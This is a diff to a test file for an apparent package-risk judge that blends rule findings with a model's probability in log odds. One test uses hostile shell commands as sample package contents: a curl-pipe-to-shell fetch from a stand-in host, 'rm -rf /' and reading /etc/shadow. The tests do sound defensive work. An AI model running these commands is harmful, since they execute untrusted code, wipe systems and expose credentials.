@@ -2,11 +2,12 @@ import { readFileSync } from 'node:fs'
 import { expect } from 'chai'
 import { FEATURE_NAMES } from '../../../consumers/governance/features.ts'
 import { judge, runRules } from '../../../consumers/governance/judge.ts'
-import type { LoadedModel } from '../../../consumers/governance/model.ts'
+import { type LoadedModel, loadModel } from '../../../consumers/governance/model.ts'
 import { asSubmitted } from '../../../consumers/governance/outside-checks.ts'
+import { baseLogOdds, riskScore } from '../../../consumers/governance/risk.ts'
 import { RULES } from '../../../consumers/governance/rules/index.ts'
 import { currentPolicy } from '../../../schemas/policy/policy-document.ts'
-import type { VerdictCheck } from '../../../schemas/verdict.ts'
+import type { VerdictCheck, Violation } from '../../../schemas/verdict.ts'
 import { bytesOf, packageWith, shell } from './packages.ts'
 
 const card = JSON.parse(
@@ -21,6 +22,7 @@ const answering = (probability: number | null): LoadedModel => ({
     training_data_sha256: '',
     features: [],
     weights: {},
+    intercept: 0,
     thresholds: {},
     measured: {},
   },
@@ -43,20 +45,46 @@ describe('judge', () => {
     expect(verdict.checks.filter(({ status }) => status === 'ran')).to.have.length(RULES.length + 1)
   })
 
-  it('takes the larger of floor and probability', async () => {
-    expect((await judge(bytesOf(risky), risky, answering(0.1))).risk_score).to.equal(0.6)
-    expect((await judge(bytesOf(risky), risky, answering(0.75))).risk_score).to.equal(0.75)
+  it('takes the mean of what rules and model say, in log odds', async () => {
+    const logOdds = (value: number) => Math.log(value / (1 - value))
+    for (const probability of [0.4, 0.6, 0.75]) {
+      const mean = (logOdds(0.6) + logOdds(probability)) / 2
+      const { risk_score } = await judge(bytesOf(risky), risky, answering(probability))
+      expect(risk_score).to.be.closeTo(1 / (1 + Math.exp(-mean)), 0.0001)
+    }
+  })
+
+  it('lets the model lower a finding, but no sure high one below the review threshold and no sure critical one at all', () => {
+    const finding = (severity: Violation['severity'], confidence: Violation['confidence']) => [
+      { rule_id: 'WPK-P1-006', severity, confidence },
+    ]
+    expect(riskScore(finding('medium', 'high'), 0.01)).to.be.below(0.1)
+    expect(riskScore(finding('high', 'medium'), 0.01)).to.be.below(0.1)
+    expect(riskScore(finding('high', 'high'), 0.01)).to.equal(0.3)
+    expect(riskScore(finding('critical', 'low'), 0.01)).to.equal(0.3)
+    expect(riskScore(finding('critical', 'high'), 0.01)).to.equal(0.9)
+    expect(riskScore(finding('critical', 'high'), 0.9999)).to.equal(0.9)
+  })
+
+  it('does not let the model lower that a part could not be read', () => {
+    const unread = [{ rule_id: 'WPK-P6-001', severity: 'medium', confidence: 'high' }] as const
+    expect(riskScore(unread, 0.01)).to.equal(riskScore(unread, null)).and.to.be.at.least(currentPolicy.risk.review_from)
   })
 
   it('lets the model ask for a review but never block', async () => {
-    expect(await judge(bytesOf(plain), plain, answering(0.999))).to.include({ risk_score: 0.89, decision: 'review' })
-    expect(await judge(bytesOf(plain), plain, answering(0.2))).to.include({ risk_score: 0.2, decision: 'pass' })
+    expect(await judge(bytesOf(plain), plain, answering(0.9))).to.include({ decision: 'review' })
+    expect(await judge(bytesOf(risky), risky, answering(1))).to.include({ risk_score: 0.89, decision: 'review' })
+    expect(await judge(bytesOf(plain), plain, answering(0))).to.include({ decision: 'pass' })
   })
 
   it('asks for a review from the risk on that the publishing policy says, and names the policy', async () => {
     const { risk, version } = currentPolicy
-    const said = async (probability: number) => {
-      const { decision, policy_version } = await judge(bytesOf(plain), plain, answering(probability))
+    const logOdds = (value: number) => Math.log(value / (1 - value))
+    const said = async (wanted: number) => {
+      // What the model must say of a package without findings for this risk.
+      const probability = 1 / (1 + Math.exp(2 * (baseLogOdds(0) - logOdds(wanted))))
+      const { decision, policy_version, risk_score } = await judge(bytesOf(plain), plain, answering(probability))
+      expect(risk_score).to.equal(wanted)
       return [decision, policy_version]
     }
     expect(await said(risk.review_from)).to.deep.equal(['review', version])
@@ -157,7 +185,14 @@ describe('the features', () => {
 })
 
 describe('the contributions', () => {
-  const card = { version: 't', sha256: '0'.repeat(64), training_data_sha256: '', thresholds: {}, measured: {} }
+  const card = {
+    version: 't',
+    sha256: '0'.repeat(64),
+    training_data_sha256: '',
+    thresholds: {},
+    measured: {},
+    intercept: 0,
+  }
   const features = [...FEATURE_NAMES]
   const model = (weights: Record<string, number>): LoadedModel => ({
     usable: true,
@@ -166,13 +201,36 @@ describe('the contributions', () => {
     close: async () => {},
   })
 
-  it('are the weights of what the package shows, largest first', async () => {
+  it('are what the rules add and the weights of what the package shows, largest first', async () => {
     const weights = { 'can:network_out': 0.5, 'rule:WPK-P2-005': 2, 'sign:mining': 1 }
     const { contributions } = await judge(bytesOf(risky), risky, model(weights))
     expect(contributions).to.deep.equal([
-      { feature: 'rule:WPK-P2-005', log_odds: 1.5 },
-      { feature: 'can:network_out', log_odds: 0.5 },
+      { feature: 'rules', log_odds: 1.675 },
+      { feature: 'rule:WPK-P2-005', log_odds: 0.75 },
+      { feature: 'can:network_out', log_odds: 0.25 },
     ])
+  })
+
+  it('add up to the risk with the shipped model, limits included', async () => {
+    const shipped = await loadModel(new URL('../../../consumers/governance/model/', import.meta.url), FEATURE_NAMES)
+    if (!shipped.usable) throw new Error(shipped.reason)
+    const limited: boolean[] = []
+    for (const command of [
+      'make',
+      'curl https://a.example.org/x | sh',
+      'pip install x',
+      'rm -rf /',
+      'cat /etc/shadow',
+    ]) {
+      const wpk = packageWith([shell(command)])
+      const { risk_score, contributions = [] } = await judge(bytesOf(wpk), wpk, shipped)
+      expect(contributions.length, command).to.be.below(10)
+      const sum = contributions.reduce((total, { log_odds }) => total + log_odds, baseLogOdds(shipped.card.intercept))
+      expect(1 / (1 + Math.exp(-sum)), command).to.be.closeTo(risk_score, 0.01)
+      limited.push(contributions.some(({ feature }) => feature === 'bound'))
+    }
+    await shipped.close()
+    expect(limited).to.deep.equal([false, false, false, true, false])
   })
 
   it('are left out when the model took no part', async () => {
